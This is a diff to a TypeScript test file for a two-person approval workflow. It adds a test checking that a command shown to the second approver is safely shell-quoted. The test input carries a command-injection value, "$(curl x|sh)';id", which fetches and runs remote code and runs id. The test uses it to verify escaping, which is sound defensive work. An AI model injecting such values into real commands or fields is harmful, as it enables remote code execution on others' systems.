@@ -15,7 +15,7 @@ import { viewOfNewFlow, type FlowFacts } from '../../src/temporal/flow-handle.js
 import { newReference } from '../harness/references.js';
 import { withTemporaryStore } from '../store/temporary-store.js';
 
-const FOUR_EYES = { actions: FOUR_EYES_BY_DEFAULT, above: new Map<string, string>() };
+const FOUR_EYES = { actions: [...FOUR_EYES_BY_DEFAULT, 'keep-waiting'], above: new Map<string, string>() };
 /** No order to a flow: four-eyes.test.ts vouches for an event by its replay. */
 const ORDERS = FOUR_EYES_BY_DEFAULT.filter((action) => action !== TRUST_EVENT);
 
@@ -102,5 +102,15 @@ describe('an order that needs two persons by default', () => {
     expect(carriedOut).toEqual([]);
     expect(await by('bob', { eventId: 'evt_1' })).toBe(false);
     expect(carriedOut).toEqual(['alice and bob']);
+  });
+
+  it('is shown to the second person as a command in which a shell finds nothing to run', async () => {
+    const { by } = parkedFlow('keep-waiting');
+    expect(await by('alice', { until: "$(curl x|sh)';id" })).toBe(true);
+    await expect(by('bob')).rejects.toMatchObject({
+      message: expect.stringMatching(
+        /towline resolve \S+ keep-waiting --until '\$\(curl x\|sh\)'\\'';id' --note "why"/,
+      ),
+    });
   });
 });
